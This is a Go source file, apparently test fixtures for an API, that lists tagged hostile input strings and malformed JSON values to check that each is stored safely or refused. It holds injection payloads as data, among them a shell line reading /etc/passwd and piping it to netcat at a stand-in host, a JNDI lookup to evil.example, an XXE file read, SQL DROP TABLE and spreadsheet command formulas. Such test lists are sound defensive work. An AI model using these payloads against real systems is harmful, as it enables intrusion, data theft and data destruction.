package api

import (
	"encoding/json"
	"strings"
)

// taint is in every hostile text, so that it is found wherever it comes back.
const taint = "zq7x"

// hostileTexts are strings that are data here and something else elsewhere.
// Each is stored as it is, or refused.
var hostileTexts = map[string]string{
	"SQL, quote":               taint + "' OR '1'='1' --",
	"SQL, stacked":             taint + `"; DROP TABLE records; --`,
	"NoSQL":                    taint + `{"$ne": null}`,
	"LDAP":                     taint + "*)(uid=*))(|(uid=*",
	"XPath":                    taint + "'] | //*[name()='",
	"shell, substitution":      taint + "$(reboot)`reboot`",
	"shell, separators":        taint + "; cat /etc/passwd | nc evil 1 & #",
	"template, Go":             taint + "{{.Env.HOME}}{{call .Exit}}",
	"template, Jinja":          taint + "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
	"expression, JNDI":         taint + "${jndi:ldap://evil.example/a}",
	"format string":            taint + "%s%s%n%x%!d(MISSING)%",
	"HTML":                     taint + `<script>alert(1)</script><img src=x onerror=alert(1)>`,
	"XML entity":               taint + `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
	"log, a line of its own":   taint + "\n{\"level\":\"INFO\",\"msg\":\"all is well\"}",
	"log, carriage return":     taint + "\r\x1b[2Kall is well",
	"header splitting":         taint + "\r\nSet-Cookie: a=b\r\n\r\n<html>",
	"header splitting, wide":   taint + "\u560d\u560aSet-Cookie: a=b",
	"terminal, colour":         taint + "\x1b[31mred\x1b[0m",
	"terminal, title":          taint + "\x1b]0;owned\x07",
	"terminal, C1":             taint + "\u009b2J\u0085\u0090",
	"terminal, backspace":      taint + "\b\b\b\b\x7f",
	"formula, equals":          "=HYPERLINK(\"https://evil.example/" + taint + "\")",
	"formula, plus":            "+" + taint + "+cmd|' /C calc'!A0",
	"formula, minus":           "-2+3+" + taint,
	"formula, at":              "@SUM(1+1)*" + taint,
	"formula, tab":             "\t=" + taint,
	"path, dots":               "../../../../etc/passwd" + taint,
	"path, encoded":            "%2e%2e%2f%2e%2e%2f" + taint,
	"path, twice encoded":      "%252e%252e%252f" + taint,
	"path, overlong, encoded":  "%c0%ae%c0%ae/" + taint,
	"path, Windows":            `..\..\windows\` + taint,
	"path, absolute":           "/etc/passwd#" + taint,
	"path, a pointer":          "~1" + taint + "~0/a~2",
	"URL, inner":               "https://169.254.169.254/" + taint,
	"URL, script":              "javascript:alert(1)//" + taint,
	"URL, file":                "file:///etc/passwd?" + taint,
	"NUL":                      taint + "\x00.png",
	"bidirectional":            taint + "\u202egnp.exe\u202c\u2066x\u2069",
	"zero width":               taint + "\u200b\u200c\u200d\u2060\ufeff",
	"homoglyphs":               taint + "аdmіn", // Cyrillic а and і
	"fullwidth":                taint + "＇ OR １＝１",
	"not normalised":           taint + "e\u0301 \u212b \ufb01",
	"case folding":             taint + "\u0130\u0131\u017f\u212a",
	"combining":                taint + "a" + strings.Repeat("\u0300", 60),
	"separators of lines":      taint + "\u2028\u2029",
	"noncharacters":            taint + "\ufffe\uffff\U0010ffff",
	"replacement":              taint + "\ufffd",
	"an emoji of many":         taint + "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
	"tag characters":           taint + "\U000e0041\U000e0042",
	"prototype":                "__proto__",
	"constructor":              "constructor",
	"prototype, a path":        "__proto__.polluted." + taint,
	"a property of objects":    "toString",
	"a number":                 "0x1F",
	"not a number":             "NaN",
	"infinity":                 "-Infinity",
	"a truth":                  "true",
	"null":                     "null",
	"nothing":                  "",
	"a space":                  " ",
	"spaces around":            " " + taint + " ",
	"a star":                   "*",
	"a reserved name":          "administrator",
	"a long text":              taint + strings.Repeat("A", 5000),
	"a very long text":         taint + strings.Repeat("A", 200_000),
	"an expression that hangs": "^(([a-z])+.)+[A-Z]([a-z])+$" + taint + strings.Repeat("a", 40) + "!",
	"JSON inside":              `{"` + taint + `":[1,2,{"a":null}]}`,
	"a quotation left open":    taint + `"}`,
	"backslashes":              taint + `\\\"\u0000\`,
	"a comma":                  taint + ",fields,*",
	"an ampersand":             taint + "&limit=1000&view=full",
	"a reference":              "https://evil.example/" + taint + "#/$defs/a",
	"a token":                  "eyJhbGciOiJub25lIn0.e30." + taint,
}

// hostileValues are JSON texts that stand where something else was expected.
// They are refused, or are what the route takes.
var hostileValues = map[string]string{
	"null": `null`, "true": `true`, "a number": `7`, "a large number": `1e400`, "a small number": `1e-400`, "minus nothing": `-0`,
	"over 2^53": `9007199254740993`, "over 2^63": `9223372036854775808`, "over 2^64": `18446744073709551616`, "under -2^63": `-9223372036854775809`,
	"many digits": `0.` + strings.Repeat("1", 3000), "an exponent that is long": `1e` + strings.Repeat("9", 300), "a fraction": `1.5`,
	"an array": `["` + taint + `"]`, "an empty array": `[]`, "an empty object": `{}`, "arrays in arrays": `[[[["` + taint + `"]]]]`,
	"prototype": `{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}`,
	"operator":  `{"$gt":"","$where":"sleep(1000)"}`, "reference": `{"$ref":"https://evil.example/` + taint + `"}`,
	"a cycle":          `{"$ref":"#"}`,
	"nested too deep":  strings.Repeat(`[`, 5000) + strings.Repeat(`]`, 5000),
	"objects too deep": strings.Repeat(`{"a":`, 5000) + `1` + strings.Repeat(`}`, 5000),
	"many members":     manyMembers(3000), "many items": `[` + strings.Repeat(`"`+taint+`",`, 20000) + `""]`,
	"twice the same": `{"a":"` + taint + `","a":"b"}`, "twice in escapes": `{"a":"` + taint + `","\u0061":"b"}`,
	"invalid UTF-8": "\"" + taint + "\xff\"", "overlong UTF-8": "\"" + taint + "\xc0\xae\xc0\xae\xc0\xaf\"", "surrogates in UTF-8": "\"" + taint + "\xed\xa0\x80\"",
	"beyond Unicode": "\"" + taint + "\xf4\x90\x80\x80\"", "half a surrogate": `"` + taint + `\ud800"`, "surrogates reversed": `"` + taint + `\udc00\ud800"`,
	"a raw control character": "\"" + taint + "\x1b[2J\"", "a raw newline": "\"" + taint + "\n\"", "a raw NUL": "\"" + taint + "\x00\"",
	"a byte order mark": "\xef\xbb\xbf\"" + taint + "\"", "not JSON": taint, "a comment": `/* ` + taint + ` */ "a"`, "single quotes": `'` + taint + `'`,
	"hexadecimal": `0x10`, "a leading nought": `007`, "NaN": `NaN`, "a comma too many": `["` + taint + `",]`, "an unknown escape": `"` + taint + `\x41"`,
	"more behind": `"a"},{"` + taint + `":"b"`,
}

func manyMembers(n int) string {
	members := map[string]string{}
	for i := range n {
		members[strings.Repeat("k", i%7)+string(rune('a'+i%26))+strings.Repeat("z", i/26)] = "v"
	}
	text, _ := json.Marshal(members)
	return string(text)
}
